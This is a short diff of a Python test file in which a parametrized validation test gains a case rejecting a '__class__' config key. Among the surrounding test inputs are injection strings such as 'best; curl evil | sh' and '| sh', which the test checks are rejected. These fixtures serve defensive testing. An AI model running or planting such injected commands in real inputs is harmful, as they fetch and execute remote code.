@@ -141,6 +141,7 @@ def test_dry_adds_nothing(cli, bundle: Path, tmp_path: Path):
         (lambda raw: raw.update(budget="paper"), "config.steps"),
         (lambda raw: raw["config"].update(steps=5), "config.steps"),
         (lambda raw: raw["config"].update({"not a name": 5}), "config is"),
+        (lambda raw: raw["config"].update({"__class__": 5}), "config is"),
         (lambda raw: raw["overrides"].update(evil="| sh"), "config.evil"),
         (lambda raw: raw["sampler"].update(name="best; curl evil | sh"), "sampler.name"),
         (lambda raw: raw["sampler"].update(knobs={"by": 1}), "sampler.knobs"),
